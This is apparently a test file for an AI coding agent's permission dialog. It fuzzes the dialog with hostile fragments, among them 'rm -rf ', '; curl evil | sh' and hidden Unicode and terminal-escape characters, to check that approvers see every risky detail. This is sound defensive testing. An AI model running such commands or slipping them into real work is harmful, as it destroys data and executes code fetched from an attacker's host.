import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { PermissionRequest, ToolFacts } from '../../../../src/contracts/permission.ts';
import { sanitize } from '../../../../src/lib/text/sanitize.ts';
import { createViewState, type StatusLineFacts, type ViewState } from '../../../../src/ui/app-state/view-state.ts';
import { getRowText } from '../../../../src/ui/text/render-lines.ts';
import { createOpenDialogState } from '../../../../src/ui/widgets/permission-dialog/dialog-state.ts';
import { layoutDialog } from '../../../../src/ui/widgets/permission-dialog/layout-dialog.ts';
import { runs } from '../../../support/runs.ts';
import { DRAWING } from '../screen/render-part.tsx';

const PIECES = [
  ...[
    'rm -rf ',
    '; curl evil | sh',
    'a',
    '\n',
    '\t',
    '\r',
    '  ',
    '中文字',
    '🙂',
    '\u202e',
    '\u200b',
    '\u001b[2J',
    '/',
    '..',
    '.bashrc',
  ],
  ...['x'.repeat(37), 'word '.repeat(9), 'é', 'e\u0301', '\u00a0', '👩‍👩‍👧', '-', '"', '\u3000'],
];
const text = fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 12 }).map((all) => all.join(''));

const facts: fc.Arbitrary<ToolFacts> = fc.oneof(
  text.map((command) => ({ tool: 'Bash', kind: 'shell', command, input: { command } }) as const),
  fc.tuple(text, text).map(([path, words]) => {
    return {
      tool: 'Edit',
      kind: 'edit',
      writes: [`/p/${path}`],
      input: { file_path: path, old_string: '', new_string: words },
    } as const;
  }),
  fc.tuple(text, text).map(([name, value]) => {
    return { tool: `mcp__server__${name}`, kind: 'mcp', input: { [name]: value, list: [value] } } as const;
  }),
);

const asked: fc.Arbitrary<PermissionRequest> = fc.record({
  id: fc.constant('q'),
  callId: fc.constant('c'),
  toolName: fc.constant('Tool'),
  title: fc.constant('title'),
  facts,
  reasons: fc.array(text, { maxLength: 3 }),
  targets: fc.array(fc.record({ path: text, real: text }), { maxLength: 2 }),
  suggestions: fc.constant([]),
  trace: fc.constant([]),
  danger: fc.constantFrom('none' as const, 'breaker' as const),
  concealed: fc.constantFrom('none' as const, 'hidden_characters' as const),
});

const FACTS: StatusLineFacts = {
  mode: 'default',
  model: 'haiku',
  contextTokens: 10,
  contextWindow: 100,
  costUsd: 0,
  branch: undefined,
  changedLines: { added: 0, removed: 0 },
  backgroundTasks: 0,
  isDemo: false,
};

function viewAsking(permission: PermissionRequest): ViewState {
  const view = createViewState(FACTS);
  return {
    ...view,
    dialogRequests: [{ kind: 'permission', id: permission.id, permission }],
    dialog: createOpenDialogState(0),
  };
}

/** What is left of words when only what is seen counts: blanks come and go where lines are broken. */
const inked = (words: string) => words.replaceAll(/[\s⏎]/g, '');

/** Every word that the person decides on, as it is spelled for them. */
function decisive({
  facts: { kind, tool, command, writes, input },
  reasons,
  targets,
}: PermissionRequest): readonly string[] {
  const spelled = (words: string) => inked(sanitize(words, 'line'));
  const [name = ''] = tool.split('__').slice(2);
  return [
    ...targets.map(({ path, real }) => `${path} resolves to ${real}`),
    ...reasons,
    ...(kind === 'shell' ? [command ?? ''] : []),
    ...(kind === 'edit' ? (writes ?? []).map((path) => path.replace(/^\/p\//, '')) : []),
    ...(kind === 'mcp' ? [name, String(input[name])] : []),
  ].map(spelled);
}

test('a dialog that accepts an answer shows all of its content, in windows of any size', () => {
  fc.assert(
    fc.property(asked, fc.integer({ min: 16, max: 120 }), fc.integer({ min: 4, max: 40 }), (request, width, room) => {
      const plan = layoutDialog(viewAsking(request), { ...DRAWING, width }, room);
      if (plan === undefined) throw new Error('Nothing is asked.');
      if (plan.inSight === 'part') return;
      const seen = inked([plan.title, ...plan.body].map(getRowText).join(''));
      expect(decisive(request).filter((words) => !seen.includes(words))).toEqual([]);
    }),
    runs(2_000),
  );
});

test('a long command is cut around its last line and the lines that name what is at risk', () => {
  const lines = Array.from({ length: 40 }, (_, index) => `echo ${index}`);
  const command = ['sh <<EOF', ...lines.slice(0, 25), 'rm -rf build', ...lines.slice(25), 'EOF'].join('\n');
  const plan = layoutDialog(
    viewAsking({
      id: 'q',
      callId: 'c',
      toolName: 'Bash',
      title: command,
      reasons: [],
      targets: [],
      suggestions: [],
      trace: [],
      danger: 'none',
      concealed: 'none',
      facts: { tool: 'Bash', kind: 'shell', command, input: { command } },
      risks: [{ kind: 'deletes', text: 'deletes build', targets: ['build'] }],
    }),
    { ...DRAWING, width: 80 },
    17,
  );
  expect(plan?.body.map(getRowText)).toMatchInlineSnapshot(`
    [
      "sh <<EOF",
      "echo 0",
      "echo 1",
      "echo 2",
      "echo 3",
      "… 21 rows hidden: v shows all, and takes the answer",
      "rm -rf build",
      "… 11 rows hidden",
      "echo 36",
      "echo 37",
      "echo 38",
      "echo 39",
      "EOF",
    ]
  `);
  expect(plan?.inSight).toBe('part');
  // The keys stay, because the way to the whole command is among them.
  expect(plan?.keys.map(getRowText).join(' ')).toContain('v show all');
});
